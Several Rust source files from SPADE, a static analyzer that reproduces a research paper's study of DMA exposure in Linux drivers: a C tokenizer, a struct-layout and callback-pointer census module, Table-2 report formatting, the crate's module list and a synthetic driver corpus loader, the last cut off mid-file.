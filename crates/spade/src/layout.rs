//! Structure layout — the pahole equivalent.
//!
//! Computes LP64 field offsets and sizes for the parsed struct
//! definitions, and performs the callback census SPADE reports:
//!
//! - **direct callbacks**: function-pointer fields reachable inside the
//!   struct itself (including embedded structs and arrays) — these are
//!   on the mapped page, immediately overwritable;
//! - **spoofable callbacks**: callbacks reachable through struct
//!   *pointer* fields — the device cannot write them directly, but it
//!   can redirect the pointer to a forged instance (Figure 2 line \[8\]:
//!   "931 callbacks may be spoofed").

use crate::parse::{CType, StructDef};
use std::collections::{HashMap, HashSet};

/// Computed layout of one struct.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct StructLayout {
    /// Total size in bytes.
    pub size: usize,
    /// Alignment in bytes.
    pub align: usize,
    /// (field name, offset, size) in declaration order.
    pub fields: Vec<(String, usize, usize)>,
}

/// A registry of all struct definitions and typedefs in a source tree.
#[derive(Clone, Debug, Default)]
pub struct TypeTable {
    structs: HashMap<String, StructDef>,
    typedefs: HashMap<String, CType>,
}

fn scalar_size(name: &str) -> Option<(usize, usize)> {
    // (size, align) for LP64.
    Some(match name {
        "char" | "bool" | "u8" | "s8" | "__u8" | "uint8_t" | "u_char" => (1, 1),
        "short" | "u16" | "s16" | "__u16" | "uint16_t" => (2, 2),
        "int" | "unsigned" | "signed" | "u32" | "s32" | "__u32" | "uint32_t" | "atomic_t"
        | "gfp_t" | "netdev_tx_t" | "irqreturn_t" | "spinlock_t" => (4, 4),
        "long" | "u64" | "s64" | "__u64" | "uint64_t" | "size_t" | "ssize_t" | "dma_addr_t"
        | "float" | "double" | "wait_queue_head_t" => (8, 8),
        _ => return None,
    })
}

impl TypeTable {
    /// Builds a table from parsed definitions.
    pub fn new(structs: &[StructDef], typedefs: &HashMap<String, CType>) -> Self {
        let mut t = TypeTable::default();
        for s in structs {
            t.structs.insert(s.name.clone(), s.clone());
        }
        t.typedefs = typedefs.clone();
        t
    }

    /// Looks up a struct definition (resolving typedef aliases).
    pub fn struct_def(&self, name: &str) -> Option<&StructDef> {
        if let Some(s) = self.structs.get(name) {
            return Some(s);
        }
        match self.typedefs.get(name) {
            Some(CType::Named(n)) if n != name => self.struct_def(n),
            _ => None,
        }
    }

    /// Size and alignment of a type; unknown types are treated as
    /// 8-byte opaque words (fault tolerance).
    pub fn size_align(&self, ty: &CType) -> (usize, usize) {
        match ty {
            CType::Void => (0, 1),
            CType::Ptr(_) | CType::FnPtr => (8, 8),
            CType::Array(inner, n) => {
                let (s, a) = self.size_align(inner);
                (s * n, a)
            }
            CType::Named(name) => {
                if let Some((s, a)) = scalar_size(name) {
                    return (s, a);
                }
                if let Some(l) = self.layout_of_name(name) {
                    return (l.size, l.align);
                }
                (8, 8)
            }
        }
    }

    /// Computes the layout of a struct by name.
    pub fn layout_of_name(&self, name: &str) -> Option<StructLayout> {
        let def = self.struct_def(name)?;
        Some(self.layout_of(def))
    }

    /// Computes the layout of a struct definition.
    pub fn layout_of(&self, def: &StructDef) -> StructLayout {
        let mut fields = Vec::new();
        let mut offset = 0usize;
        let mut align = 1usize;
        for f in &def.fields {
            let (s, a) = self.size_align(&f.ty);
            align = align.max(a);
            if def.is_union {
                fields.push((f.name.clone(), 0, s));
                offset = offset.max(s);
            } else {
                offset = offset.div_ceil(a.max(1)) * a.max(1);
                fields.push((f.name.clone(), offset, s));
                offset += s;
            }
        }
        let size = offset.div_ceil(align) * align;
        StructLayout {
            size: size.max(1),
            align,
            fields,
        }
    }

    /// Byte offset of `field` within struct `name`.
    pub fn field_offset(&self, name: &str, field: &str) -> Option<usize> {
        let l = self.layout_of_name(name)?;
        l.fields
            .iter()
            .find(|(f, _, _)| f == field)
            .map(|(_, o, _)| *o)
    }

    /// Resolves a field's declared type.
    pub fn field_type(&self, name: &str, field: &str) -> Option<&CType> {
        let def = self.struct_def(name)?;
        def.fields.iter().find(|f| f.name == field).map(|f| &f.ty)
    }

    /// Counts function-pointer fields *embedded* in the struct
    /// (recursing into embedded structs/unions and arrays).
    pub fn direct_callbacks(&self, name: &str) -> usize {
        let mut seen = HashSet::new();
        self.direct_callbacks_inner(name, &mut seen)
    }

    fn direct_callbacks_inner(&self, name: &str, seen: &mut HashSet<String>) -> usize {
        if !seen.insert(name.to_string()) {
            return 0;
        }
        let Some(def) = self.struct_def(name) else {
            return 0;
        };
        let mut n = 0;
        for f in &def.fields {
            n += self.count_embedded(&f.ty, seen);
        }
        seen.remove(name);
        n
    }

    fn count_embedded(&self, ty: &CType, seen: &mut HashSet<String>) -> usize {
        match ty {
            CType::FnPtr => 1,
            CType::Array(inner, n) => self.count_embedded(inner, seen) * n,
            CType::Named(name) => self.direct_callbacks_inner(name, seen),
            _ => 0, // Pointers are not embedded.
        }
    }

    /// Counts callbacks *spoofable* through the struct: for every struct
    /// pointer field, the total callbacks (direct + further spoofable,
    /// bounded by `depth`) of the pointee. Replacing the pointer with a
    /// forged instance lets the attacker control those callbacks.
    pub fn spoofable_callbacks(&self, name: &str, depth: usize) -> usize {
        let Some(def) = self.struct_def(name) else {
            return 0;
        };
        if depth == 0 {
            return 0;
        }
        let mut n = 0;
        for f in &def.fields {
            if let CType::Ptr(inner) = &f.ty {
                if let Some(pointee) = inner.base_name() {
                    if self.struct_def(pointee).is_some() {
                        n += self.direct_callbacks(pointee)
                            + self.spoofable_callbacks(pointee, depth - 1);
                    }
                }
            }
        }
        n
    }

    /// Counts *heap pointer* fields in the struct (data pointers the
    /// device can read — kernel-address leaks — or redirect before the
    /// kernel dereferences them). Function pointers are counted by the
    /// callback census instead; recursion covers embedded structs.
    pub fn heap_pointers(&self, name: &str) -> usize {
        let mut seen = HashSet::new();
        self.heap_pointers_inner(name, &mut seen)
    }

    fn heap_pointers_inner(&self, name: &str, seen: &mut HashSet<String>) -> usize {
        if !seen.insert(name.to_string()) {
            return 0;
        }
        let Some(def) = self.struct_def(name) else {
            return 0;
        };
        let mut n = 0;
        for f in &def.fields {
            n += match &f.ty {
                CType::Ptr(_) => 1,
                CType::Array(inner, cnt) => match &**inner {
                    CType::Ptr(_) => *cnt,
                    CType::Named(inner_name) => self.heap_pointers_inner(inner_name, seen) * cnt,
                    _ => 0,
                },
                CType::Named(embedded) => self.heap_pointers_inner(embedded, seen),
                _ => 0,
            };
        }
        seen.remove(name);
        n
    }

    /// Number of known struct definitions.
    pub fn len(&self) -> usize {
        self.structs.len()
    }

    /// `true` if no structs are registered.
    pub fn is_empty(&self) -> bool {
        self.structs.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::parse_file;

    fn table(src: &str) -> TypeTable {
        let f = parse_file("t.c", src);
        TypeTable::new(&f.structs, &f.typedefs)
    }

    #[test]
    fn natural_alignment_layout() {
        let t = table("struct s { u8 a; u32 b; u8 c; u64 d; };");
        let l = t.layout_of_name("s").unwrap();
        assert_eq!(
            l.fields,
            vec![
                ("a".into(), 0, 1),
                ("b".into(), 4, 4),
                ("c".into(), 8, 1),
                ("d".into(), 16, 8),
            ]
        );
        assert_eq!(l.size, 24);
        assert_eq!(l.align, 8);
    }

    #[test]
    fn skb_shared_info_model_layout_matches_simulator() {
        // The corpus header mirrors sim-net's byte layout; verify the
        // layout engine reproduces the same offsets.
        let t = table(
            r#"
            struct skb_frag_t { struct page *page; __u32 page_offset; __u32 size; };
            struct skb_shared_info {
                __u8 nr_frags;
                __u8 tx_flags;
                __u16 gso_size;
                __u16 gso_segs;
                __u16 gso_type;
                struct sk_buff *frag_list;
                struct skb_shared_hwtstamps_t hwtstamps;
                __u32 tskey;
                __u32 ip6_frag_id;
                atomic_t dataref;
                void *destructor_arg;
                struct skb_frag_t frags[17];
            };
            struct skb_shared_hwtstamps_t { __u64 hwtstamp; };
            "#,
        );
        assert_eq!(
            t.field_offset("skb_shared_info", "destructor_arg"),
            Some(40)
        );
        assert_eq!(t.field_offset("skb_shared_info", "frags"), Some(48));
        let l = t.layout_of_name("skb_shared_info").unwrap();
        assert_eq!(l.size, 320);
    }

    #[test]
    fn union_fields_overlap() {
        let t = table("union u { u32 a; u64 b; u8 c; };");
        let l = t.layout_of_name("u").unwrap();
        assert!(l.fields.iter().all(|(_, off, _)| *off == 0));
        assert_eq!(l.size, 8);
    }

    #[test]
    fn direct_callback_census_recurses_embedded() {
        let t = table(
            r#"
            struct inner { void (*cb)(void); int x; };
            struct outer {
                struct inner a;
                struct inner pair[2];
                void (*own)(int);
                struct inner *ptr;
            };
            "#,
        );
        // a (1) + pair (2) + own (1); ptr is NOT embedded.
        assert_eq!(t.direct_callbacks("outer"), 4);
        assert_eq!(t.direct_callbacks("inner"), 1);
    }

    #[test]
    fn spoofable_census_follows_pointers() {
        let t = table(
            r#"
            struct ops { void (*a)(void); void (*b)(void); };
            struct dev { struct ops *ops; int id; };
            struct req { struct dev *dev; void (*done)(void); };
            "#,
        );
        assert_eq!(t.direct_callbacks("req"), 1);
        // Through req.dev: dev has 0 direct, but dev.ops has 2.
        assert_eq!(t.spoofable_callbacks("req", 4), 2);
        assert_eq!(t.spoofable_callbacks("dev", 4), 2);
        assert_eq!(
            t.spoofable_callbacks("req", 1),
            0,
            "depth 1 sees no fnptrs via dev"
        );
    }

    #[test]
    fn recursive_structs_terminate() {
        let t = table("struct node { struct node *next; void (*f)(void); };");
        assert_eq!(t.direct_callbacks("node"), 1);
        // Bounded by depth, not by infinite recursion.
        assert_eq!(t.spoofable_callbacks("node", 3), 3);
    }

    #[test]
    fn typedef_alias_resolves() {
        let t = table("typedef struct real { u64 x; } alias_t;");
        assert_eq!(t.layout_of_name("alias_t").unwrap().size, 8);
    }

    #[test]
    fn unknown_types_default_to_word() {
        let t = table("struct s { struct mystery m; u8 tail; };");
        let l = t.layout_of_name("s").unwrap();
        assert_eq!(l.size, 16);
    }
}
