//! A C tokenizer.
//!
//! Handles comments, string/char literals, numbers, identifiers,
//! punctuation, and line-oriented preprocessor directives. Object-like
//! `#define NAME <number>` macros are expanded (array sizes in the
//! corpus use them); other directives are recorded and skipped.

use std::collections::HashMap;

/// A lexical token.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Tok {
    /// Identifier or keyword.
    Ident(String),
    /// Integer literal (value).
    Num(i64),
    /// String literal (contents).
    Str(String),
    /// Punctuation / operator, e.g. `->`, `(`, `;`.
    Punct(&'static str),
}

/// A token with its source line (1-based).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SpannedTok {
    /// The token.
    pub tok: Tok,
    /// 1-based source line.
    pub line: u32,
}

const PUNCTS: &[&str] = &[
    "->", "<<=", ">>=", "<<", ">>", "<=", ">=", "==", "!=", "&&", "||", "++", "--", "+=", "-=",
    "*=", "/=", "%=", "&=", "|=", "^=", "...", "(", ")", "{", "}", "[", "]", ";", ",", ".", "&",
    "*", "+", "-", "/", "%", "<", ">", "=", "!", "|", "^", "~", "?", ":",
];

/// Tokenizes C source, expanding simple numeric `#define`s.
pub fn lex(src: &str) -> Vec<SpannedTok> {
    let mut defines: HashMap<String, i64> = HashMap::new();
    let mut out = Vec::new();
    let bytes = src.as_bytes();
    let mut i = 0usize;
    let mut line: u32 = 1;
    let n = bytes.len();

    while i < n {
        let c = bytes[i] as char;
        // Newlines / whitespace.
        if c == '\n' {
            line += 1;
            i += 1;
            continue;
        }
        if c.is_ascii_whitespace() {
            i += 1;
            continue;
        }
        // Comments.
        if c == '/' && i + 1 < n {
            match bytes[i + 1] as char {
                '/' => {
                    while i < n && bytes[i] != b'\n' {
                        i += 1;
                    }
                    continue;
                }
                '*' => {
                    i += 2;
                    while i + 1 < n && !(bytes[i] == b'*' && bytes[i + 1] == b'/') {
                        if bytes[i] == b'\n' {
                            line += 1;
                        }
                        i += 1;
                    }
                    i = (i + 2).min(n);
                    continue;
                }
                _ => {}
            }
        }
        // Preprocessor lines.
        if c == '#' {
            let start = i;
            let mut end = i;
            // Directives can continue with backslash-newline.
            while end < n {
                if bytes[end] == b'\\' && end + 1 < n && bytes[end + 1] == b'\n' {
                    line += 1;
                    end += 2;
                    continue;
                }
                if bytes[end] == b'\n' {
                    break;
                }
                end += 1;
            }
            let directive = String::from_utf8_lossy(&bytes[start..end]);
            parse_define(&directive, &mut defines);
            i = end;
            continue;
        }
        // String literal.
        if c == '"' {
            let mut s = String::new();
            i += 1;
            while i < n && bytes[i] != b'"' {
                if bytes[i] == b'\\' && i + 1 < n {
                    s.push(bytes[i + 1] as char);
                    i += 2;
                } else {
                    if bytes[i] == b'\n' {
                        line += 1;
                    }
                    s.push(bytes[i] as char);
                    i += 1;
                }
            }
            i += 1;
            out.push(SpannedTok {
                tok: Tok::Str(s),
                line,
            });
            continue;
        }
        // Char literal → number.
        if c == '\'' {
            let mut v = 0i64;
            i += 1;
            while i < n && bytes[i] != b'\'' {
                if bytes[i] == b'\\' && i + 1 < n {
                    i += 1;
                }
                v = bytes[i] as i64;
                i += 1;
            }
            i += 1;
            out.push(SpannedTok {
                tok: Tok::Num(v),
                line,
            });
            continue;
        }
        // Number.
        if c.is_ascii_digit() {
            let start = i;
            while i < n
                && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_' || bytes[i] == b'.')
            {
                i += 1;
            }
            // The consumed bytes are all ASCII by construction.
            let text = std::str::from_utf8(&bytes[start..i]).expect("ASCII run");
            out.push(SpannedTok {
                tok: Tok::Num(parse_int(text)),
                line,
            });
            continue;
        }
        // Identifier / keyword.
        if c.is_ascii_alphabetic() || c == '_' {
            let start = i;
            while i < n && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_') {
                i += 1;
            }
            let word = std::str::from_utf8(&bytes[start..i]).expect("ASCII run");
            if let Some(&v) = defines.get(word) {
                out.push(SpannedTok {
                    tok: Tok::Num(v),
                    line,
                });
            } else {
                out.push(SpannedTok {
                    tok: Tok::Ident(word.to_string()),
                    line,
                });
            }
            continue;
        }
        // Punctuation (longest match).
        let mut matched = false;
        for p in PUNCTS {
            if bytes[i..].starts_with(p.as_bytes()) {
                out.push(SpannedTok {
                    tok: Tok::Punct(p),
                    line,
                });
                i += p.len();
                matched = true;
                break;
            }
        }
        if !matched {
            i += 1; // Skip unknown bytes (fault tolerance).
        }
    }
    out
}

fn parse_define(directive: &str, defines: &mut HashMap<String, i64>) {
    let mut parts = directive.trim_start_matches('#').split_whitespace();
    if parts.next() != Some("define") {
        return;
    }
    let Some(name) = parts.next() else { return };
    if name.contains('(') {
        return; // Function-like macros are not expanded.
    }
    let Some(value) = parts.next() else { return };
    if parts.next().is_some() {
        return; // Multi-token bodies skipped.
    }
    let v = parse_int(value);
    if v != 0 || value.trim_start_matches('0').is_empty() {
        defines.insert(name.to_string(), v);
    }
}

fn parse_int(text: &str) -> i64 {
    let t = text
        .trim_end_matches(['u', 'U', 'l', 'L'])
        .trim_end_matches(['u', 'U', 'l', 'L']);
    if let Some(hex) = t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
        i64::from_str_radix(hex, 16).unwrap_or(0)
    } else {
        t.parse().unwrap_or(0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toks(src: &str) -> Vec<Tok> {
        lex(src).into_iter().map(|t| t.tok).collect()
    }

    #[test]
    fn basic_tokens() {
        assert_eq!(
            toks("int x = 42;"),
            vec![
                Tok::Ident("int".into()),
                Tok::Ident("x".into()),
                Tok::Punct("="),
                Tok::Num(42),
                Tok::Punct(";"),
            ]
        );
    }

    #[test]
    fn arrow_and_member() {
        assert_eq!(
            toks("a->b.c"),
            vec![
                Tok::Ident("a".into()),
                Tok::Punct("->"),
                Tok::Ident("b".into()),
                Tok::Punct("."),
                Tok::Ident("c".into()),
            ]
        );
    }

    #[test]
    fn comments_are_skipped_lines_counted() {
        let ts = lex("/* multi\nline */ x // trailing\ny");
        assert_eq!(ts.len(), 2);
        assert_eq!(ts[0].line, 2);
        assert_eq!(ts[1].line, 3);
    }

    #[test]
    fn numeric_defines_expand() {
        let ts = toks("#define RING_SIZE 256\nint ring[RING_SIZE];");
        assert!(ts.contains(&Tok::Num(256)));
        assert!(!ts
            .iter()
            .any(|t| matches!(t, Tok::Ident(s) if s == "RING_SIZE")));
    }

    #[test]
    fn hex_and_suffixed_numbers() {
        assert_eq!(toks("0x1F 10UL"), vec![Tok::Num(31), Tok::Num(10)]);
    }

    #[test]
    fn strings_and_chars() {
        assert_eq!(
            toks(r#""dev \"x\"" 'A'"#),
            vec![Tok::Str("dev \"x\"".into()), Tok::Num(65)]
        );
    }

    #[test]
    fn include_lines_skipped() {
        let ts = toks("#include <linux/skbuff.h>\nstruct sk_buff *skb;");
        assert_eq!(ts[0], Tok::Ident("struct".into()));
    }

    #[test]
    fn continuation_defines() {
        // Multi-token define bodies are skipped but don't break lexing.
        let ts = toks("#define min(a, b) \\\n ((a) < (b) ? (a) : (b))\nint y;");
        assert_eq!(ts[0], Tok::Ident("int".into()));
    }
}
