//! SPADE output formatting: Figure-2-style per-finding traces and the
//! Table-2 summary.

use crate::analysis::{Finding, MappedOrigin};
use std::collections::BTreeSet;

/// Figure-2-style report for one finding: impact first, then the trace
/// lines, numbered.
pub struct TraceReport<'a>(pub &'a Finding);

impl std::fmt::Display for TraceReport<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let fd = self.0;
        let mut n = 1;
        let mut line = |f: &mut std::fmt::Formatter<'_>, s: &str| {
            let r = writeln!(f, "[{n}] {s}");
            n += 1;
            r
        };
        if fd.direct_callbacks > 0 {
            line(
                f,
                &format!(
                    "EXPOSED: {} callback pointer(s) mapped with write access",
                    fd.direct_callbacks
                ),
            )?;
        }
        if fd.spoofable_callbacks > 0 {
            line(
                f,
                &format!(
                    "SPOOFABLE: {} callback pointer(s) reachable via mapped struct pointers",
                    fd.spoofable_callbacks
                ),
            )?;
        }
        if fd.shinfo_mapped {
            line(
                f,
                "skb_shared_info mapped with the packet's DMA permissions",
            )?;
        }
        if fd.type_c {
            line(
                f,
                "type (c): buffer page shared with other live mappings (page_frag)",
            )?;
        }
        if matches!(fd.origin, MappedOrigin::StackBuffer) {
            line(f, "STACK: kernel stack page mapped for DMA")?;
        }
        for t in fd.trace.iter().rev() {
            line(f, t)?;
        }
        Ok(())
    }
}

/// One row of the Table-2 summary: distinct call sites and files.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Row {
    /// Number of dma-map call sites matching the row.
    pub calls: usize,
    /// Number of distinct files containing them.
    pub files: usize,
}

/// The Table-2 aggregation (§4.1.3).
#[derive(Clone, Debug, Default)]
pub struct Table2 {
    /// Row 1: callbacks exposed (direct or spoofable).
    pub callbacks_exposed: Row,
    /// Row 2: `skb_shared_info` mapped.
    pub shinfo_mapped: Row,
    /// Row 3: callbacks exposed directly.
    pub callbacks_direct: Row,
    /// Row 4: private data mapped.
    pub private_data: Row,
    /// Row 5: stack mapped.
    pub stack_mapped: Row,
    /// Row 6: type (c) vulnerability present.
    pub type_c: Row,
    /// Row 7: `build_skb` used.
    pub build_skb: Row,
    /// Total dma-map calls analyzed.
    pub total: Row,
}

impl Table2 {
    /// Aggregates findings into the Table-2 rows.
    pub fn from_findings(findings: &[Finding]) -> Self {
        fn row(findings: &[Finding], pred: impl Fn(&Finding) -> bool) -> Row {
            let matching: Vec<&Finding> = findings.iter().filter(|f| pred(f)).collect();
            let files: BTreeSet<&str> = matching.iter().map(|f| f.file.as_str()).collect();
            Row {
                calls: matching.len(),
                files: files.len(),
            }
        }
        Table2 {
            callbacks_exposed: row(findings, |f| f.callbacks_exposed() && !f.shinfo_only()),
            shinfo_mapped: row(findings, |f| f.shinfo_mapped),
            callbacks_direct: row(findings, |f| f.direct_callbacks > 0),
            private_data: row(findings, |f| {
                matches!(f.origin, MappedOrigin::PrivateData { .. })
            }),
            stack_mapped: row(findings, |f| matches!(f.origin, MappedOrigin::StackBuffer)),
            type_c: row(findings, |f| f.type_c),
            build_skb: row(findings, |f| f.uses_build_skb),
            total: row(findings, |_| true),
        }
    }

    /// dma-map calls with *some* potential vulnerability (the paper's
    /// headline: "742 dma-map calls (i.e., 72.8% of all dma-map calls)").
    pub fn vulnerable_calls(findings: &[Finding]) -> usize {
        findings
            .iter()
            .filter(|f| {
                f.callbacks_exposed()
                    || f.shinfo_mapped
                    || f.type_c
                    || matches!(
                        f.origin,
                        MappedOrigin::StackBuffer | MappedOrigin::PrivateData { .. }
                    )
            })
            .count()
    }

    /// Renders the Table-2 rows, with call percentages like the paper.
    pub fn render(&self) -> String {
        let pct = |r: &Row| {
            if self.total.calls == 0 {
                0.0
            } else {
                100.0 * r.calls as f64 / self.total.calls as f64
            }
        };
        let fpct = |r: &Row| {
            if self.total.files == 0 {
                0.0
            } else {
                100.0 * r.files as f64 / self.total.files as f64
            }
        };
        let mut s = String::new();
        s.push_str(&format!(
            "{:<34}{:>16}{:>16}\n",
            "Stat", "#API calls", "#Files"
        ));
        let mut push = |label: &str, r: &Row, with_pct: bool| {
            if with_pct {
                s.push_str(&format!(
                    "{:<34}{:>9} ({:>4.1}%){:>9} ({:>4.1}%)\n",
                    label,
                    r.calls,
                    pct(r),
                    r.files,
                    fpct(r)
                ));
            } else {
                s.push_str(&format!("{:<34}{:>16}{:>16}\n", label, r.calls, r.files));
            }
        };
        push("1. Callbacks exposed", &self.callbacks_exposed, true);
        push("2. skb_shared_info mapped", &self.shinfo_mapped, true);
        push(
            "3. Callbacks exposed directly",
            &self.callbacks_direct,
            false,
        );
        push("4. Private data mapped", &self.private_data, false);
        push("5. Stack mapped", &self.stack_mapped, false);
        push("6. Type C vulnerability", &self.type_c, false);
        push("7. build_skb used", &self.build_skb, false);
        push("Total dma-map calls", &self.total, false);
        s
    }
}

/// Renders findings as machine-readable TSV (one row per dma-map call):
/// `file, line, caller, origin, direct, spoofable, heap_ptrs, shinfo,
/// type_c, build_skb`.
pub fn render_tsv(findings: &[Finding]) -> String {
    let mut out = String::from(
        "file	line	caller	origin	direct_callbacks	spoofable_callbacks	heap_pointers	shinfo	type_c	build_skb
",
    );
    for f in findings {
        out.push_str(&format!(
            "{}	{}	{}	{:?}	{}	{}	{}	{}	{}	{}
",
            f.file,
            f.line,
            f.caller,
            f.origin,
            f.direct_callbacks,
            f.spoofable_callbacks,
            f.heap_pointers,
            f.shinfo_mapped,
            f.type_c,
            f.uses_build_skb,
        ));
    }
    out
}

impl Finding {
    /// `true` when the only callback exposure is the ubiquitous
    /// `skb_shared_info` one. The paper's row 1 counts driver-structure
    /// exposures; the skb_shared_info population has its own row 2.
    pub fn shinfo_only(&self) -> bool {
        self.shinfo_mapped
            && self.direct_callbacks == 0
            && !matches!(
                self.origin,
                MappedOrigin::EmbeddedInStruct { .. } | MappedOrigin::PrivateData { .. }
            )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::analyze;
    use crate::xref::SourceTree;

    fn findings() -> Vec<Finding> {
        let hdr = r#"
            struct ubuf_info { void (*callback)(void); };
            struct skb_shared_info { u8 nr_frags; struct ubuf_info *destructor_arg; };
            struct sk_buff { unsigned char *data; unsigned int len; };
        "#;
        let drv_a = r#"
            struct op { char iu[64]; void (*done)(void); };
            int a(struct device *d, struct op *op) {
                dma_map_single(d, &op->iu, 64, 1);
                return 0;
            }
        "#;
        let drv_b = r#"
            int b(struct device *d, struct sk_buff *skb) {
                dma_map_single(d, skb->data, skb->len, 2);
                return 0;
            }
            int b2(struct device *d) {
                char tmp[32];
                dma_map_single(d, tmp, 32, 1);
                return 0;
            }
        "#;
        let tree = SourceTree::load([("h.h", hdr), ("a.c", drv_a), ("b.c", drv_b)]);
        analyze(&tree)
    }

    #[test]
    fn table2_counts_rows() {
        let fs = findings();
        let t = Table2::from_findings(&fs);
        assert_eq!(t.total, Row { calls: 3, files: 2 });
        assert_eq!(t.callbacks_exposed, Row { calls: 1, files: 1 });
        assert_eq!(t.callbacks_direct, Row { calls: 1, files: 1 });
        assert_eq!(t.shinfo_mapped, Row { calls: 1, files: 1 });
        assert_eq!(t.stack_mapped, Row { calls: 1, files: 1 });
        assert_eq!(Table2::vulnerable_calls(&fs), 3);
    }

    #[test]
    fn render_contains_paper_row_labels() {
        let t = Table2::from_findings(&findings());
        let s = t.render();
        for label in [
            "Callbacks exposed",
            "skb_shared_info mapped",
            "Callbacks exposed directly",
            "Private data mapped",
            "Stack mapped",
            "Type C vulnerability",
            "build_skb used",
            "Total dma-map calls",
        ] {
            assert!(s.contains(label), "missing row: {label}\n{s}");
        }
    }

    #[test]
    fn tsv_is_one_row_per_finding_with_header() {
        let fs = findings();
        let tsv = render_tsv(&fs);
        let lines: Vec<&str> = tsv.lines().collect();
        assert_eq!(lines.len(), fs.len() + 1);
        assert!(lines[0].starts_with("file\tline\tcaller"));
        let cols = lines[1].split('\t').count();
        assert_eq!(cols, 10);
    }

    #[test]
    fn trace_report_leads_with_impact() {
        let fs = findings();
        let f = fs.iter().find(|f| f.direct_callbacks > 0).unwrap();
        let text = TraceReport(f).to_string();
        assert!(text.starts_with("[1] EXPOSED:"), "got:\n{text}");
        assert!(text.contains("dma_map_single"));
    }
}
