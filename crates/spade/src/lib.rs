//! SPADE — Sub-Page Analysis for DMA Exposure (§4.1).
//!
//! A static analyzer for C driver sources that starts from `dma_map*`
//! call sites, backtracks the mapped expression to its declaration or
//! producing allocation, and reports what the mapping exposes at page
//! granularity: embedded structures with callback pointers (type (a)),
//! OS structures placed inside I/O buffers like `skb_shared_info`
//! (type (b)), and page_frag-carved buffers that alias pages across
//! mappings (type (c)).
//!
//! The original tool was ~2000 lines of Perl gluing together Cscope
//! (cross-referencing) and pahole (structure layout). This crate
//! implements all three layers from scratch:
//!
//! - [`lex`] — a C tokenizer with comment/preprocessor handling.
//! - [`parse`] — a fault-tolerant fuzzy C parser: struct/typedef
//!   definitions, function definitions, declarations, assignments and
//!   calls (the subset cross-referencing needs — exactly the Cscope
//!   philosophy).
//! - [`layout`] — the pahole equivalent: LP64 field offsets, structure
//!   sizes, callback-pointer census (direct and spoofable).
//! - [`xref`] — the Cscope equivalent: symbol, call-site, and
//!   assignment indices over a whole source tree.
//! - [`analysis`] — the SPADE pass itself: per-call-site backtracking
//!   and vulnerability classification.
//! - [`report`] — Figure-2-style per-finding traces and the Table-2
//!   summary.
//! - [`corpus`] — loads the bundled synthetic driver corpus and its
//!   generator (modeled on the Linux 5.0 driver population).

pub mod analysis;
pub mod corpus;
pub mod layout;
pub mod lex;
pub mod parse;
pub mod report;
pub mod xref;

pub use analysis::{analyze, Finding, MappedOrigin};
pub use layout::TypeTable;
pub use report::{Table2, TraceReport};
pub use xref::SourceTree;
