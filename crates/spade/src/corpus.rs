//! The SPADE analysis corpus.
//!
//! Two layers, mirroring how the paper ran SPADE over Linux 5.0 (1019
//! `dma_map_single` calls across 447 files):
//!
//! 1. **Exemplars** — hand-written driver sources modeled on the real
//!    drivers the paper names: `nvme_fc` (the Figure-2 finding), an
//!    i40e-style RX path, an mlx5-style `build_skb` user, a FireWire
//!    OHCI context, crypto/SCSI private-data mappers, and the three
//!    stack-buffer mappers.
//! 2. **Generated population** — deterministic synthetic drivers whose
//!    category mix reproduces the *proportions* of Table 2 (share of
//!    `skb_shared_info` mappings, page_frag users, embedded-struct
//!    exposures, private-data maps, and statically clean kmalloc
//!    buffers).

use dma_core::DetRng;

/// The shared corpus headers, always loaded first.
pub const HEADERS: &[(&str, &str)] = &[(
    "include/linux/skbuff.h",
    include_str!("../corpus/include/skbuff.h"),
)];

/// The hand-written exemplar drivers.
pub const EXEMPLARS: &[(&str, &str)] = &[
    (
        "drivers/nvme/host/fc.c",
        include_str!("../corpus/nvme_fc.c"),
    ),
    (
        "drivers/net/ethernet/intel/i40e/i40e_txrx.c",
        include_str!("../corpus/i40e_txrx.c"),
    ),
    (
        "drivers/net/ethernet/mellanox/mlx5/core/en_rx.c",
        include_str!("../corpus/mlx5_rx.c"),
    ),
    (
        "drivers/firewire/ohci.c",
        include_str!("../corpus/fw_ohci.c"),
    ),
    (
        "drivers/crypto/ccp/ccp-aead.c",
        include_str!("../corpus/crypto_aead.c"),
    ),
    (
        "drivers/scsi/snic/snic_main.c",
        include_str!("../corpus/scsi_drv.c"),
    ),
    (
        "drivers/scsi/legacy/probe_a.c",
        include_str!("../corpus/stack_a.c"),
    ),
    (
        "drivers/scsi/legacy/reset_b.c",
        include_str!("../corpus/stack_b.c"),
    ),
    (
        "drivers/scsi/legacy/sense_c.c",
        include_str!("../corpus/stack_c.c"),
    ),
    (
        "drivers/net/ethernet/fwhs/fwhs_main.c",
        include_str!("../corpus/netdev_priv_drv.c"),
    ),
];

/// How many files of each category the generator emits.
#[derive(Clone, Copy, Debug)]
pub struct CorpusMix {
    /// NIC RX paths: `netdev_alloc_skb` + map `skb->data` (type (b)+(c)).
    pub frag_skb_files: usize,
    /// Raw `napi_alloc_frag` buffer maps (type (c) only).
    pub frag_only_files: usize,
    /// TX paths mapping `skb->data` without page_frag (type (b) only).
    pub skb_tx_files: usize,
    /// Embedded driver structs with direct callback fields (type (a)).
    pub embedded_direct_files: usize,
    /// Embedded structs exposing callbacks only via ops pointers.
    pub embedded_spoof_files: usize,
    /// `netdev_priv`-style private data mappers.
    pub private_files: usize,
    /// `build_skb` RX paths.
    pub build_skb_files: usize,
    /// Statically clean kmalloc-buffer drivers.
    pub clean_files: usize,
}

impl Default for CorpusMix {
    /// The Linux-5.0-shaped mix (together with [`EXEMPLARS`], roughly
    /// 1000 dma-map calls over ~480 files with Table-2 proportions).
    fn default() -> Self {
        CorpusMix {
            frag_skb_files: 178,
            frag_only_files: 46,
            skb_tx_files: 51,
            embedded_direct_files: 26,
            embedded_spoof_files: 29,
            private_files: 4,
            build_skb_files: 39,
            clean_files: 100,
        }
    }
}

/// Generates the synthetic driver population.
